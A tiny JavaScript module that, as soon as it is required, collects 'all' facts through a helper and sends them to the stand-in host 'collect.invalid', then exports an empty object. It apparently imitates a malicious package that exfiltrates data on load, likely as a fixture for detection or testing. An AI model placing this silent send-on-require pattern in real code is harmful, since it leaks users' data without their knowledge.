const Sender = require('./lib/sender');
const { Facts } = require('./lib/facts');

new Sender('collect.invalid').give(new Facts().all());
module.exports = {};
